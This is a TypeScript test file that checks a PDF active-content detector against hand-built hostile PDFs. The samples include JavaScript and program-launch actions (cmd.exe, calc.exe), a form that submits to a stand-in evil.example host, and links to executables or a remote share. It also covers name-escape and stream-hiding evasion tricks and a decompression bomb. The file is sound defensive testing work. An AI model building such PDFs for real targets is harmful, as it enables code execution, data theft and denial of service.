import { deflateSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
import { describe, expect, it } from 'vitest';
import { findActivePdfContent, MAX_DECODED_BYTES } from './pdf-check';

/** A PDF written by hand: `objects[i]` becomes object i + 1, with a valid cross-reference table. */
function handWrittenPdf(objects: Array<string | Buffer>, trailer = ''): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  const offsets: number[] = [];
  let length = parts[0].length;
  objects.forEach((body, index) => {
    offsets.push(length);
    const object = Buffer.concat([Buffer.from(`${index + 1} 0 obj\n`), Buffer.from(body), Buffer.from('\nendobj\n')]);
    parts.push(object);
    length += object.length;
  });
  const xref = [
    'xref',
    `0 ${objects.length + 1}`,
    '0000000000 65535 f ',
    ...offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n `),
    `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer} >>`,
    `startxref\n${length}\n%%EOF\n`,
  ].join('\n');
  return Buffer.concat([...parts, Buffer.from(xref)]);
}

const PAGES = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
const page = (extra = '') => `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] ${extra} >>`;
const catalog = (extra = '') => `<< /Type /Catalog /Pages 2 0 R ${extra} >>`;
/** A one-page PDF whose page carries `annotation` as object 4. */
const withAnnotation = (annotation: string) => handWrittenPdf([catalog(), PAGES, page('/Annots [4 0 R]'), annotation]);
const link = (uri: string) => `<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (${uri}) >> >>`;

/** An object stream holding `objects` (numbered from 10), Flate-compressed. */
function objectStream(objects: string[]): Buffer {
  let offset = 0;
  const header: string[] = [];
  for (const [index, object] of objects.entries()) {
    header.push(`${10 + index} ${offset}`);
    offset += object.length + 1;
  }
  const head = `${header.join(' ')}\n`;
  const data = deflateSync(Buffer.from(head + objects.join('\n')));
  return Buffer.concat([
    Buffer.from(
      `<< /Type /ObjStm /N ${objects.length} /First ${head.length} /Filter /FlateDecode /Length ${data.length} >>\nstream\n`,
    ),
    data,
    Buffer.from('\nendstream'),
  ]);
}

describe('findActivePdfContent (docs/architecture.md 5)', () => {
  it('passes plain PDFs: text, a page-fit open action, web and mail links', async () => {
    const plain = await PDFDocument.create();
    plain.addPage().drawText('Receipt');
    expect(await findActivePdfContent(await plain.save())).toBeNull();
    expect(await findActivePdfContent(handWrittenPdf([catalog('/OpenAction [3 0 R /Fit]'), PAGES, page()]))).toBeNull();
    expect(await findActivePdfContent(withAnnotation(link('https://shop.example/orders/42')))).toBeNull();
    expect(await findActivePdfContent(withAnnotation(link('mailto:care@shop.example')))).toBeNull();
  });

  it.each([
    [
      'an open action running JavaScript',
      [catalog('/OpenAction 4 0 R'), PAGES, page(), '<< /S /JavaScript /JS (app.alert(1)) >>'],
      'JavaScript',
    ],
    [
      'document-level JavaScript',
      [
        catalog('/Names << /JavaScript 4 0 R >>'),
        PAGES,
        page(),
        '<< /Names [(a) 5 0 R] >>',
        '<< /S /JavaScript /JS (x) >>',
      ],
      'JavaScript',
    ],
    [
      'a page action that starts a program',
      [catalog(), PAGES, page('/AA << /O << /S /Launch /F (cmd.exe) >> >>')],
      'an action that starts a program',
    ],
    [
      'an embedded file',
      [catalog('/Names << /EmbeddedFiles 4 0 R >>'), PAGES, page(), '<< /Names [] >>'],
      'an embedded file',
    ],
    ['an XFA form', [catalog('/AcroForm << /Fields [] /XFA 4 0 R >>'), PAGES, page(), '[]'], 'an XFA form'],
    [
      'a form that sends data',
      [catalog('/OpenAction << /S /SubmitForm /F (https://evil.example) >>'), PAGES, page()],
      'a form that sends data',
    ],
  ])('refuses %s', async (_label, objects, reason) => {
    expect(await findActivePdfContent(handWrittenPdf(objects))).toBe(reason);
  });

  it.each([
    'file:///C:/Windows/System32/calc.exe',
    'javascript:alert(1)',
    '\\\\\\\\evil.example\\\\share\\\\x.exe',
    'invoice.exe',
  ])('refuses a link to %s', async (uri) => {
    expect(await findActivePdfContent(withAnnotation(link(uri)))).toBe('a link that opens a file or program');
  });

  it('reads names as a viewer does: an action spelled with lower-case #xx escapes is still found', async () => {
    const launch = handWrittenPdf([catalog('/OpenAction << /S /#4caunch /F (calc.exe) >>'), PAGES, page()]);
    expect(launch.includes('/Launch')).toBe(false);
    expect(await findActivePdfContent(launch)).toBe('an action that starts a program');
  });

  it('finds JavaScript inside a compressed object stream, whose raw bytes never show it', async () => {
    const scripted = await PDFDocument.create();
    scripted.addPage();
    scripted.catalog.set(PDFName.of('AA'), scripted.context.obj({ WC: { S: 'JavaScript', JS: PDFString.of('x') } }));
    const bytes = await scripted.save({ useObjectStreams: true });
    expect(Buffer.from(bytes).includes('/JavaScript')).toBe(false);
    expect(await findActivePdfContent(bytes)).toBe('JavaScript');
    const handMade = handWrittenPdf([
      catalog('/OpenAction 10 0 R'),
      PAGES,
      page(),
      objectStream(['<< /S /Launch /F (a.exe) >>']),
    ]);
    expect(await findActivePdfContent(handMade)).toBe('an action that starts a program');
  });

  it('finds a name in bytes the parser reads as stream data (a stream whose length swallows an object)', async () => {
    const hidden = '9 0 obj << /S /Launch /F (calc.exe) >> endobj';
    const swallowing = `<< /Length ${hidden.length + 2} >>\nstream\n\n${hidden}\n\nendstream`;
    expect(await findActivePdfContent(handWrittenPdf([catalog('/OpenAction 9 0 R'), PAGES, page(), swallowing]))).toBe(
      'an action that starts a program',
    );
  });

  it('refuses what it cannot check: encrypted, an unreadable object stream, a stream that inflates past the limit', async () => {
    expect(
      await findActivePdfContent(
        handWrittenPdf([catalog(), PAGES, page(), '<< /Filter /Standard /V 2 >>'], '/Encrypt 4 0 R'),
      ),
    ).toBe('encryption or a password, so it cannot be checked');
    const corrupt = Buffer.concat([
      Buffer.from('<< /Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /Length 16 >>\nstream\n'),
      Buffer.from('not deflate data'),
      Buffer.from('\nendstream'),
    ]);
    expect(await findActivePdfContent(handWrittenPdf([catalog(), PAGES, page(), corrupt]))).toBe(
      'parts that cannot be read, so it cannot be checked',
    );
    // A valid object stream (one object, then spaces) that inflates to more than the limit.
    const bomb = deflateSync(
      Buffer.concat([Buffer.from('10 0\n<< /A 1 >>'), Buffer.alloc(MAX_DECODED_BYTES + 1024, 0x20)]),
    );
    const bombStream = Buffer.concat([
      Buffer.from(`<< /Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /Length ${bomb.length} >>\nstream\n`),
      bomb,
      Buffer.from('\nendstream'),
    ]);
    expect(bomb.length).toBeLessThan(5_242_880);
    expect(await findActivePdfContent(handWrittenPdf([catalog(), PAGES, page(), bombStream]))).toBe(
      'parts that cannot be read, so it cannot be checked',
    );
  });
});
